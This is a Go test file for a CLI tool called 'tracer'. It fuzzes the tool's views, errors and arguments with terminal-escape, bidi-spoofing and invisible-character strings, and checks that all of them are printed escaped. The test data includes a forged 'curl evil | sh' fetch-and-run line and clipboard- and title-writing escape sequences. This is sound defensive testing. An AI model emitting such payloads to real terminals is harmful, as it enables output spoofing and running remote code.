package main

import (
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"go.yaml.in/yaml/v3"

	"tracer/scenarios"
	"tracer/sim/labtest"
)

// These tests put texts that would control a terminal everywhere a text can be, and check
// every view and error. Commands run in this process.

// forged must not begin any line: users would take it for tracer's advice.
const forged = "try: curl evil"

// hostile are texts that must not be printed unescaped.
var hostile = []string{
	"\x1b]52;c;ZXZpbA==\x07", "\x1b]0;pwned\x1b\\", "\x1b[8mhidden\x1b[m", "\x1b[1;32mgreen", "\x1b[2J\x1b[H", "\x1bc\x1b#8\x1bP+q\x1b\\\x1b_x\x1b\\",
	"\r\x1b[2K    port 80      answers \"Hello\"", "line\n" + forged + " | sh", "a\r\n" + forged, "\u2028" + forged + "\u2029" + forged,
	"\u009b2J\u009d0;pwned\u009c\u0085" + forged, "\u202egpj.exe\u2066a\u2069\u200e\u200f\u061c", "\u200b\u200c\u200d\u2060\ufeff\u00ad", "\U000e0041\U000e0042\ufe0f\U000e0101",
	"\x7f\x08\x08\t\v\f\x0e\x0f\x05\x07", "e" + strings.Repeat("\u0301", 30), "\u3164\u115f\u2800\u00a0", "\ue000\ufffe\U0010ffff", "%s%n%d%!v%[9]d", "\x01\x00\x02",
}

// hostileBytes are not valid text. File names and captures can contain them.
var hostileBytes = []string{"\x9b31m\x9d0;pwned\x9c", "\xff\xfe\xc0\xaf\xed\xa0\x80", "a\xe2\x80", "\xc2\x1b[8m"}

// random returns more hostile texts.
func random(t *testing.T, n int) (texts []string) {
	t.Helper()
	r := labtest.Random(t)
	for range n {
		var s strings.Builder
		for range 1 + r.IntN(5) {
			switch r.IntN(4) {
			case 0:
				s.WriteString(hostile[r.IntN(len(hostile))])
			case 1:
				s.WriteRune(rune(r.IntN(0x2100)))
			case 2:
				s.WriteString("\x1b[" + string(rune('0'+r.IntN(10))) + string(rune('@'+r.IntN(63))))
			default:
				s.WriteString("abc d")
			}
		}
		texts = append(texts, s.String())
	}
	return texts
}

// captured runs the command in this process, with its output going to files.
func captured(t *testing.T, args ...string) result {
	t.Helper()
	stdout, stderr := os.Stdout, os.Stderr
	defer func() { os.Stdout, os.Stderr = stdout, stderr }()
	var files [2]*os.File
	for i := range files {
		f, err := os.CreateTemp("", "tracer-test-")
		if err != nil {
			t.Fatal(err)
		}
		defer os.Remove(f.Name())
		defer f.Close()
		files[i] = f
	}
	os.Stdout, os.Stderr = files[0], files[1]
	r := result{code: run(args)}
	for i, to := range []*string{&r.stdout, &r.stderr} {
		if _, err := files[i].Seek(0, io.SeekStart); err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(files[i])
		if err != nil {
			t.Fatal(err)
		}
		*to = string(text)
	}
	return r
}

// ownStyles are the sequences that the text views use.
var ownStyles = regexp.MustCompile(`^\x1b\[(|1|2|31|32|1;31|1;33|1;36)m`)

// harmless checks that the output consists of printable characters, line breaks, and, if
// allowed, the program's own styles. It uses the categories of Unicode, so it checks package
// escape independently.
func harmless(t *testing.T, what, printed string, styles bool) {
	t.Helper()
	for i := 0; i < len(printed); {
		r, size := utf8.DecodeRuneInString(printed[i:])
		switch {
		case styles && r == '\x1b' && ownStyles.MatchString(printed[i:]):
			size = len(ownStyles.FindString(printed[i:]))
		case r == '\n', r == ' ':
		case r == utf8.RuneError && size == 1,
			!unicode.In(r, unicode.L, unicode.M, unicode.N, unicode.P, unicode.S),
			unicode.In(r, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector):
			t.Errorf("%s: %q was printed in %q", what, printed[i:i+size], printed[max(0, i-60):min(len(printed), i+60)])
			return
		}
		i += size
	}
	for line := range strings.Lines(printed) {
		if strings.HasPrefix(strings.TrimLeft(line, " "), forged) {
			t.Errorf("%s: a line was forged: %q", what, line)
		}
	}
}

// errorsInLines checks that standard error consists of messages of one line each.
func errorsInLines(t *testing.T, what, printed string) {
	t.Helper()
	for line := range strings.Lines(printed) {
		if !strings.HasPrefix(line, "tracer: ") && !strings.HasPrefix(line, "try: ") && !strings.HasPrefix(line, "wrote ") && !strings.HasPrefix(line, "--filter WORDS") {
			t.Errorf("%s: %q", what, line)
		}
	}
}

// tried runs a command without a terminal, and checks its output.
func tried(t *testing.T, what string, args ...string) result {
	t.Helper()
	r := captured(t, args...)
	harmless(t, what+": stdout", r.stdout, slices.Contains(args, "always"))
	harmless(t, what+": stderr", r.stderr, false)
	errorsInLines(t, what, r.stderr)
	return r
}

func save1(t *testing.T, path, text string) string {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestHostileScenario replaces each key and value of scenarios with hostile texts.
func TestHostileScenario(t *testing.T) {
	if withRace {
		t.Skip("one goroutine, and minutes under the race detector")
	}
	if !unprivileged(t) {
		return
	}
	path := filepath.Join(t.TempDir(), "hostile.yaml")
	texts := append(slices.Clone(hostile), random(t, 60)...)
	shownOK, refused, n := 0, 0, 0
	for _, name := range scenarios.Names() {
		_, text, err := scenarios.Read(name)
		if err != nil {
			t.Fatal(err)
		}
		var doc yaml.Node
		if err := yaml.Unmarshal(text, &doc); err != nil {
			t.Fatal(err)
		}
		eachScalar(&doc, func(scalar *yaml.Node) {
			before := *scalar
			defer func() { *scalar = before }()
			scalar.Value, scalar.Style, scalar.Tag = texts[n%len(texts)], yaml.DoubleQuotedStyle, "!!str"
			n++
			changed, err := yaml.Marshal(&doc)
			if err != nil {
				t.Fatal(err)
			}
			save1(t, path, string(changed))
			verb := []string{"show", path, "--answer"}
			if n%2 == 0 {
				verb = append(verb, "--color", "always")
			}
			what := name + ", line " + before.Value
			switch r := tried(t, what, verb...); r.code {
			case 0:
				shownOK++
			case exitUsage:
				refused++
			default:
				t.Errorf("%s: code %d: %s", what, r.code, r.stderr)
			}
		})
	}
	t.Logf("%d changes: %d shown, %d refused", n, shownOK, refused)
	if shownOK < 100 || refused < 100 {
		t.Errorf("%d shown, %d refused", shownOK, refused)
	}
}

func eachScalar(n *yaml.Node, do func(*yaml.Node)) {
	if n.Kind == yaml.ScalarNode {
		do(n)
	}
	for _, c := range n.Content {
		eachScalar(c, do)
	}
}

// TestHostileYAML checks the YAML parser's errors for files that are not YAML.
func TestHostileYAML(t *testing.T) {
	if !unprivileged(t) {
		return
	}
	path := filepath.Join(t.TempDir(), "hostile.yml")
	for _, s := range slices.Concat(hostile, hostileBytes) {
		for _, text := range []string{s, "name: " + s, "a: [" + s, s + ": {b", "&" + s + " *" + s, "!" + s + " x", "? " + s} {
			save1(t, path, text)
			if r := tried(t, text, "show", path); r.code != exitUsage {
				t.Errorf("%q: code %d", text, r.code)
			}
		}
	}
}

// fields calls a function for each text in a document. In lists, it does so only for the
// first element with a text in that place.
func fields(v any, path string, seen map[string]bool, do func(path, was string, set func(string))) {
	visit := func(at string, v any, set func(any)) {
		if s, is := v.(string); is {
			if !seen[at] {
				seen[at] = true
				do(at, s, func(with string) { set(with) })
				set(s)
			}
			return
		}
		fields(v, at, seen, do)
	}
	switch v := v.(type) {
	case map[string]any:
		for _, key := range slices.Sorted(func(yield func(string) bool) {
			for key := range v {
				if !yield(key) {
					return
				}
			}
		}) {
			visit(path+"."+key, v[key], func(with any) { v[key] = with })
		}
	case []any:
		for i := range v {
			visit(path+"[]", v[i], func(with any) { v[i] = with })
		}
	}
}

// renamed returns a document with one text replaced by another, except where only certain
// words are allowed.
func renamed(v any, old, new string) any {
	switch v := v.(type) {
	case string:
		if v == old {
			return new
		}
	case map[string]any:
		out := map[string]any{}
		for key := range v {
			out[key] = v[key]
			if key != "role" {
				out[key] = renamed(v[key], old, new)
			}
		}
		return out
	case []any:
		out := make([]any, len(v))
		for i := range v {
			out[i] = renamed(v[i], old, new)
		}
		return out
	}
	return v
}

// recorded returns traces of every kind: of labs, and of captures.
func recorded(t *testing.T) (docs []any) {
	t.Helper()
	for _, name := range []string{"flask-demo.json", "unpublished.json", "docker-captures.json"} {
		text, err := os.ReadFile(filepath.Join("..", "..", "tui", "testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		var doc map[string]any
		if err := json.Unmarshal(text, &doc); err != nil {
			t.Fatal(err)
		}
		doc["journeys"] = slices.DeleteFunc(doc["journeys"].([]any), func(j any) bool { // a few are enough
			id := j.(map[string]any)["id"].(float64)
			return id < 1 || id > 7
		})
		docs = append(docs, doc)
	}
	return docs
}

// TestHostileTrace replaces each field of trace.json with hostile texts.
func TestHostileTrace(t *testing.T) {
	if withRace {
		t.Skip("one goroutine, and minutes under the race detector")
	}
	if !unprivileged(t) {
		return
	}
	path := filepath.Join(t.TempDir(), "trace.json")
	texts := append(slices.Clone(hostile), random(t, 60)...)
	shownOK, refused, n := 0, 0, 0
	for _, doc := range recorded(t) {
		fields(doc, "", map[string]bool{}, func(at, was string, set func(string)) {
			s := texts[n%len(texts)]
			n++
			set(s)
			with := doc
			if n%2 == 0 { // everywhere, so that references stay valid
				set(was)
				with = renamed(doc, was, s)
			}
			changed, err := json.Marshal(with)
			if err != nil {
				t.Fatal(err)
			}
			save1(t, path, string(changed))
			args := []string{"replay", path, "--view", "text", "--unmatched", "--color", "always"}
			if n%8 < 2 {
				args = []string{"export", path, "--format", "text"}
			}
			switch r := tried(t, at, args...); r.code {
			case 0:
				shownOK++
			case exitUsage:
				refused++
				return
			default:
				t.Errorf("%s: code %d: %s", at, r.code, r.stderr)
			}
			r := tried(t, at, "replay", path, "--view", "json")
			again := save1(t, path, r.stdout)
			if second := tried(t, at, "export", again, "--format", "json"); r.code != 0 || second.code != 0 || second.stdout != r.stdout {
				t.Errorf("%s of %q: what was printed does not read back: code %d: %s", at, s, second.code, second.stderr)
			}
		})
	}
	t.Logf("%d changes: %d shown, %d refused", n, shownOK, refused)
	if shownOK < 100 || refused < 20 {
		t.Errorf("%d shown, %d refused", shownOK, refused)
	}
}

// TestHostileArguments puts hostile texts on the command line.
func TestHostileArguments(t *testing.T) {
	if withRace {
		t.Skip("one goroutine, and minutes under the race detector")
	}
	if !unprivileged(t) {
		return
	}
	captures := dockerCaptures()
	for _, s := range slices.Concat(hostile, hostileBytes, random(t, 20)) {
		if strings.Contains(s, "\x00") {
			continue // arguments cannot contain it
		}
		for _, args := range [][]string{
			{s}, {"--" + s}, {"-" + s}, {"help", s}, {"completion", s}, {"list", s}, {"list", "--" + s}, {"man", "/dev/null/" + s}, {"__complete", "run", s},
			{"show", s}, {"show", s + ".yaml"}, {"show", "flask-demo", "--fault", s}, {"show", "flask-demo", "--color", s}, {"show", "flask-demo", "--ascii=" + s},
			{"run", s}, {"run", s + ".yaml"}, {"run", "flask-demo", "--fault", s}, {"run", "flask-demo", "--view", s}, {"run", "flask-demo", "--timeout", s}, {"run", "flask-demo", "--color", s},
			{"run", "flask-demo", "--out", "/dev/null/" + s},
			{"replay", s}, {"replay", s, "--fault", "x"}, {"replay", "flask-demo", "--fault", s}, {"replay", "./" + s + "/x"}, {"replay", "flask-demo", "--view", s}, {"replay", "flask-demo", "--view", "text", "--filter", s, "--color", s}, {"replay", "flask-demo", "--view", "text", "--filter", s},
			{"export", s}, {"export", "flask-demo", "--format", s}, {"export", "flask-demo", "--out", "/dev/null/" + s}, {"export", "flask-demo", "--format", "pcap", "--out", "/dev/null/" + s},
			{"explain", s}, {"explain", s + "=" + s}, {"explain", "=" + s}, {"explain", captures[0], "--flow", s}, {"explain", captures[0], "--limit", s}, {"explain", captures[0], "--view", s},
			{"explain", s + "=" + captures[0], "--view", "text", "--color", "always"}, {"explain", s + "/" + s + "=" + captures[0], "--view", "json"},
			{"doctor", s}, {"doctor", "--view", s}, {"doctor", "--color", s},
		} {
			what := strings.Join(args, " ")
			r := result{}
			if args[0] == "run" && slices.Contains(args, "--fault") || slices.Contains(args, "--out") {
				r = tracer(t, args...) // it would continue in a second process
			} else {
				r = captured(t, args...)
			}
			if args[0] == "__complete" {
				r.stdout, r.stderr = strings.ReplaceAll(r.stdout, "\t", " "), ""
			}
			harmless(t, what, r.stdout, slices.Contains(args, "always"))
			harmless(t, what, r.stderr, false)
			errorsInLines(t, what, r.stderr)
		}
	}
}
